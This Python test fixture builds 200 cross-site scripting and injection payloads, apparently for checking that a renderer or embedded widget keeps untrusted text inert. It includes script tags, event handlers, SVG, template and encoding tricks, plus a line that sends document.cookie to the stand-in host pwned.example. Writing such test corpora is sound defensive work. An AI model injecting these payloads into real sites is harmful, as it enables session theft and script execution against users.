"""200 texts that would do something if a page took them for more than text.

What they would do leaves a trace: a dialog, ``window.__pwned``, an element of class ``pwned``, a
request for an address with ``pwned`` in it.
"""

from __future__ import annotations

from itertools import product

ACT = "window.__pwned=1"
HOST = "//pwned.example"
IMAGE = f"<img class=pwned src=/pwned.png onerror={ACT}>"

_SCRIPTS = [
    f"<script>{ACT}</script>",
    f"<ScRiPt class=pwned>{ACT}</sCrIpT >",
    f"<script src={HOST}/a.js></script>",
    f"<script\t/src='{HOST}/b.js'>",
    f"<script type=module>import '{HOST}/c.js'</script>",
    f"<script>/*</script><script>*/{ACT}</script>",
    f"<<script>{ACT};//<</script>",
    f"<script x>{ACT}</script y>",
    f"</script><script>{ACT}</script>",
    f"<script class=pwned>fetch('{HOST}/d?'+document.cookie)</script>",
    "<script>alert(document.domain)</script>",
    f'<noscript><p title="</noscript>{IMAGE}">',
]
_HANDLERS = [
    f"<{tag} class=pwned {handler}>"
    for tag, handler in [
        *product(("img src=/pwned", "video src=/pwned", "audio src=/pwned"), [f"onerror={ACT}"]),
        *product(("body", "svg", "iframe", "style"), [f"onload={ACT}", f"onload='{ACT}'"]),
        *product(("input", "select", "textarea", "button"), [f"autofocus onfocus={ACT}"]),
        *product(("details open", "x-pwned"), [f"ontoggle={ACT}", f'onclick="{ACT}"']),
        *product(("div", "a", "b", "p", "mark"), [f"onmouseover={ACT}", f"onpointerenter={ACT}"]),
        ("marquee", f"onstart={ACT}"),
        ("div tabindex=1", f"onfocusin={ACT}"),
        ("p style=animation:x", f"onanimationstart={ACT}"),
        ("div contenteditable", f"oninput={ACT}"),
        ("video", f"oncanplay={ACT}"),
        ("object data=/pwned", f"onerror={ACT}"),
        ("image src=/pwned", f"onerror={ACT}"),
        ("img src=/pwned", f"oNeRrOr\t=\t{ACT}"),
        ("img/src=/pwned", f"/onerror={ACT}/"),
        ("img srcset=/pwned.png", "onerror=alert`1`"),
        ("frameset", f"onpageshow={ACT}"),
        ("form", f"onformdata={ACT}"),
        ("dialog open", f"oncancel={ACT} onclose={ACT}"),
        ("audio autoplay", f"onloadstart={ACT}"),
        ("img src=/pwned onerror", f'="{ACT}"'),
    ]
]
_EMBEDDED = [
    f"<iframe class=pwned src={HOST}></iframe>",
    f'<iframe srcdoc="<script>parent.{ACT[7:]}</script>"></iframe>',
    f"<object data={HOST}/a.swf></object>",
    f"<embed src={HOST}/b>",
    f"<base href={HOST}/>",
    f"<link rel=stylesheet href={HOST}/c.css>",
    f"<meta http-equiv=refresh content='0;url={HOST}'>",
    f"<style>@import '{HOST}/d.css';</style>",
    f"<style>*{{background:url({HOST}/e.png)}}</style>",
    f"<div class=pwned style='background:url({HOST}/f.png)'>",
    f"<form class=pwned action={HOST}><input name=q><button>Send</button></form>",
    f"<video class=pwned poster={HOST}/g.png>",
    f"<template class=pwned shadowrootmode=open>{IMAGE}</template>",
    f"<portal class=pwned src={HOST}>",
    f"<clause-bot class=pwned key=pk_pwned heading='{HOST}'></clause-bot>",
    f"<input class=pwned type=image src={HOST}/h.png>",
]
_SVG = [
    f"<svg class=pwned><script>{ACT}</script></svg>",
    f"<svg class=pwned><script href={HOST}/i.js /></svg>",
    f"<svg class=pwned><animate onbegin={ACT} attributeName=x dur=1s>",
    f"<svg class=pwned><set attributeName=href to=javascript:{ACT} />",
    f"<svg class=pwned><a xlink:href='javascript:{ACT}'><text y=20>ok</text></a></svg>",
    f"<svg class=pwned><use href='{HOST}/j.svg#x'/></svg>",
    f"<svg class=pwned><image href={HOST}/k.png></svg>",
    f"<svg class=pwned><foreignObject>{IMAGE}</foreignObject></svg>",
    f"<svg class=pwned><style>@import '{HOST}/l.css'</style></svg>",
    f'<svg></p><style><a id="</style>{IMAGE}">',
    f"<math class=pwned href=javascript:{ACT}>ok</math>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;{IMAGE}">',
]
_LINKS = [
    *(
        f"<a class=pwned href={quote}{address}{quote}>ok</a>"
        for quote, address in product(
            ("'", '"'),
            (
                f"javascript:{ACT}",
                f"JaVaScRiPt:{ACT}",
                f" javascript:{ACT}",
                f"java\tscript:{ACT}",
                f"javascript&colon;{ACT}",
                f"&#106;avascript:{ACT}",
                f"vbscript:{ACT}",
                f"data:text/html,<script>{ACT}</script>",
                f"{HOST}/m",
            ),
        )
    ),
    f"javascript:{ACT}",
    f"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#{HOST}",
    f"https:{HOST}/n",
    f"www.pwned.example/o?a=1&b=<b>{IMAGE}",
    "mailto:pwned@pwned.example?subject=<script>",
    f"file://{HOST}/p",
]
_MARKDOWN = [
    f"![image](https:{HOST}/q.png)",
    f"![image](javascript:{ACT})",
    f"[link](javascript:{ACT})",
    f"[link](https:{HOST}/r 'title')",
    f"[link](data:text/html,<script>{ACT}</script>)",
    f"<https:{HOST}/s>",
    f"[one]: https:{HOST}/t [one][one]",
    f"[![nested](https:{HOST}/u.png)](javascript:{ACT})",
    f"`{IMAGE}`",
    f"``` html {IMAGE} ```",
    f"| a | b | |---|---| | {IMAGE} | c |",
    f"# {IMAGE}",
    f"> <script>{ACT}</script>",
    f"$$\\href{{javascript:{ACT}}}{{link}}$$",
    f"$\\includegraphics{{https:{HOST}/v.png}}$",
    f"**bold** <b class=pwned>bold</b> ~~{IMAGE}~~",
]
_TEMPLATES = [
    f"${{{ACT}}}",
    f"`${{alert(1)}}`${{{ACT}}}",
    f"{{{{constructor.constructor('{ACT}')()}}}}",
    f"{{{{{ACT}}}}}",
    "{{value}} ${value} {value}",
    f"<%= {ACT} %>",
    f"{{%raw%}}{IMAGE}{{%endraw%}}",
    f"#{{{ACT}}}",
    f"[[${{{ACT}}}]]",
    f"{{@html '{IMAGE}'}}",
    f"@{{{ACT}}} #set($x='{ACT}')",
    "{{'a'.constructor.prototype.charAt=[].join;$eval('x=alert(1)')}}",
    "%s %(pwned)s {0} {pwned!r} $pwned ${pwned}",
    f"<x-pwned v-html=\"'{ACT}'\" ng-app @click={ACT} :class=x>",
]
_BREAKOUTS = [
    f"{opening}{IMAGE}"
    for opening in (
        '">', "'>", "`>", "--><", "]]>", "</textarea>", "</title>", "</style>", "</bdi></h2>",
        "</mark></blockquote>", "</template>", "</code></pre>", "<!--", "<![CDATA[", "<?xml ?>",
    )
] + [
    f'" onmouseover="{ACT}" class="pwned',
    f"' autofocus onfocus='{ACT}' class='pwned",
    f'" style="background:url({HOST}/w.png)" data-clause="',
    f'\\" onclick=\\"{ACT}\\" class=\\"pwned\\"',
]  # fmt: skip
_ENCODED = [
    IMAGE.replace("<", "&lt;").replace(">", "&gt;"),
    IMAGE.replace("<", "&amp;lt;").replace(">", "&amp;gt;"),
    IMAGE.replace("<", "&#60;").replace(">", "&#62;"),
    IMAGE.replace("<", "&#x3c").replace(">", "&#x3e"),
    IMAGE.replace("<", "%3C").replace(">", "%3E"),
    IMAGE.replace("<", "%253C").replace(">", "%253E"),
    IMAGE.replace("<", "\\u003c").replace(">", "\\u003e"),
    IMAGE.replace("<", "\\x3c").replace(">", "\\x3e"),
    IMAGE.replace("<", "\\74").replace(">", "\\76"),
    IMAGE.replace("<", "＜").replace(">", "＞"),
    IMAGE.replace("<", "﹤").replace(">", "﹥"),
    IMAGE.replace("<", "‹").replace(">", "›"),
    IMAGE.replace("<", "+ADw-").replace(">", "+AD4-"),
    IMAGE.replace("<", "\u00c0\u00bc").replace(">", "\u00c0\u00be"),
    "".join(f"&#{ord(char)};" for char in "<img src=x onerror=alert(1)>"),
    IMAGE.translate({code: code + 0xFEE0 for code in range(0x21, 0x7F)}),
]
_UNSEEN = [
    f"\u202e{IMAGE}\u202c",
    f"\u2066{IMAGE}\u2069\u2069\u2069",
    f"\u2067</bdi>{IMAGE}",
    f"<\u200bimg src=/pwned onerror={ACT}>",
    f"<img\u200b class=pwned src=/pwned onerror={ACT}>",
    f"<img\u00a0src=/pwned\u3000onerror={ACT}>",
    f"<img/\u2028src=/pwned/\u2029onerror={ACT}>",
    f"\ufeff{IMAGE}",
    f"<i\u00admg src=/pwned onerror={ACT}>",
    f"java\u200bscript:{ACT} java\u2060script:{ACT}",
    f"<a\u0338 href=javascript:{ACT}>",
    f"\U000e0001\U000e003c{IMAGE}",
    f"\u061c\u200f{IMAGE}\u200e",
]
_CHINESE = [
    f"协议{IMAGE}终止后数据保留多久？",
    f"《{IMAGE}》第三条怎么规定？",
    f"余额<script>{ACT}</script>不足会怎么样？",
    f"“{IMAGE}”是什么意思",
    f"发票：<a class=pwned href='javascript:{ACT}'>点击开票</a>",
    f"【通知】<iframe class=pwned src={HOST}>请查收</iframe>",
    f"＜script＞{ACT}＜／script＞可以吗？",
    f"合同　<svg　onload={ACT}>　什么时候到期",
    f"联系客服 ![二维码](https:{HOST}/二维码.png)",
    f"费用是{{{{{ACT}}}}}元吗？",
    f"\u202e多久保留据数\u202c{IMAGE}",
    f"第5（3）条</li></ul>{IMAGE}",
    "退款" * 6 + IMAGE,
    f"𠮷野家{IMAGE}的𡃁仔",
]
PAYLOADS = (
    _SCRIPTS + _HANDLERS + _EMBEDDED + _SVG + _LINKS + _MARKDOWN + _TEMPLATES + _BREAKOUTS
    + _ENCODED + _UNSEEN + _CHINESE
)  # fmt: skip
